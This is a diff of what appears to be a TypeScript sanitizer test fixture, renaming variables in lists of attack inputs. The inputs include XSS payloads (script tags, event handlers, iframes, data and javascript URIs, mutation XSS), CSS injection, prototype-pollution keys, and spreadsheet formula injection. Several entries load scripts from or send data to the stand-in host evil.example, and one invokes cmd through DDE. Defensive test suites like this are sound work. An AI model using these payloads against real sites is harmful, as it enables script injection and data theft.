@@ -1,6 +1,6 @@
 /** The function that every payload tries to call; malice-test.ts exposes it to the page. */
 const call = 'ran()'
-const elsewhere = 'evil.example'
+const otherHost = 'evil.example'
 
 const handlers = [
   `<img src=x onerror=${call}>`,
@@ -29,8 +29,8 @@ const scripts = [
   `<ScRiPt >${call}</sCrIpT>`,
   `<script/x>${call}</script>`,
   `<script type=module>${call}</script>`,
-  `<script src=https://${elsewhere}/a.js></script>`,
-  `<script src=//${elsewhere}/a.js></script>`,
+  `<script src=https://${otherHost}/a.js></script>`,
+  `<script src=//${otherHost}/a.js></script>`,
   `<script src=data:text/javascript,${call}></script>`,
   `<svg><script>${call}</script></svg>`,
   `<script>${call}`,
@@ -41,18 +41,18 @@ const scripts = [
 const frames = [
   `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
   `<iframe src="javascript:parent.${call}"></iframe>`,
-  `<iframe src=//${elsewhere}></iframe>`,
+  `<iframe src=//${otherHost}></iframe>`,
   `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
   `<object data="data:text/html,<script>${call}</script>"></object>`,
-  `<base href=//${elsewhere}/>`,
-  `<meta http-equiv=refresh content="0;url=//${elsewhere}/">`,
+  `<base href=//${otherHost}/>`,
+  `<meta http-equiv=refresh content="0;url=//${otherHost}/">`,
   `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
-  `<form action=//${elsewhere}/><button autofocus>`,
+  `<form action=//${otherHost}/><button autofocus>`,
   `<form><button formaction=javascript:${call}>go`,
   `<a href=javascript:${call} autofocus>go</a>`,
-  `<a href=//${elsewhere}/ ping=//${elsewhere}/ping>go</a>`,
-  `<link rel=prefetch href=//${elsewhere}/p>`,
-  `<link rel=modulepreload href=//${elsewhere}/m.js>`,
+  `<a href=//${otherHost}/ ping=//${otherHost}/ping>go</a>`,
+  `<link rel=prefetch href=//${otherHost}/p>`,
+  `<link rel=modulepreload href=//${otherHost}/m.js>`,
 ]
 /** Harmless after the first parsing, but not after serialization and a second parsing (mutation XSS). */
 const mutations = [
@@ -79,25 +79,25 @@ const addresses = [
   `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
   `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
   `vbscript:${call}`,
-  `blob:https://${elsewhere}/1`,
-  `filesystem:https://${elsewhere}/temporary/1`,
-  `view-source:https://${elsewhere}/`,
-  `//${elsewhere}/a`,
-  `/\\${elsewhere}/a`,
-  `/\t/${elsewhere}/a`,
-  `\\\\${elsewhere}\\a`,
-  `https:${elsewhere}/a`,
-  `http://${elsewhere}/a`,
-  `https://user:word@${elsewhere}/a`,
-  `ws://${elsewhere}/a`,
+  `blob:https://${otherHost}/1`,
+  `filesystem:https://${otherHost}/temporary/1`,
+  `view-source:https://${otherHost}/`,
+  `//${otherHost}/a`,
+  `/\\${otherHost}/a`,
+  `/\t/${otherHost}/a`,
+  `\\\\${otherHost}\\a`,
+  `https:${otherHost}/a`,
+  `http://${otherHost}/a`,
+  `https://user:word@${otherHost}/a`,
+  `ws://${otherHost}/a`,
 ]
 const styles = [
-  `red;background:url(//${elsewhere}/c)`,
-  `');background:url(//${elsewhere}/c)`,
+  `red;background:url(//${otherHost}/c)`,
+  `');background:url(//${otherHost}/c)`,
   `url(javascript:${call})`,
   `expression(${call})`,
-  `@import '//${elsewhere}/c.css';`,
-  `*{background:url(//${elsewhere}/c)}`,
+  `@import '//${otherHost}/c.css';`,
+  `*{background:url(//${otherHost}/c)}`,
   '\\3c script\\3e',
 ]
 const codes = [
@@ -143,7 +143,7 @@ const impostors = [
 ]
 const names = ['__proto__', 'constructor', 'prototype', 'toString', '__proto__[polluted]', 'hasOwnProperty']
 const formulas = [
-  `=HYPERLINK("https://${elsewhere}/?"&A1)`,
+  `=HYPERLINK("https://${otherHost}/?"&A1)`,
   "+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(1+1)',
@@ -151,9 +151,9 @@ const formulas = [
 ]
 
 /** Prefixes that break out of the context of a text. */
-const ways = ['">', "'>", '</textarea>', '</title>', '</script>', '-->', '</style>', '"\' ']
+const prefixes = ['">', "'>", '</textarea>', '</title>', '</script>', '-->', '</style>', '"\' ']
 const attributes = [`autofocus onfocus=${call} x=`, `onmouseover=${call} style=position:fixed;inset:0 x=`]
-const breakouts = ways.flatMap((way, at) =>
+const breakouts = prefixes.flatMap((way, at) =>
   pieces.filter((_, place) => place % 3 === at % 3).map((piece) => way + piece),
 )
 const insideTags = ['"', "'", '`', ''].flatMap((quote) =>
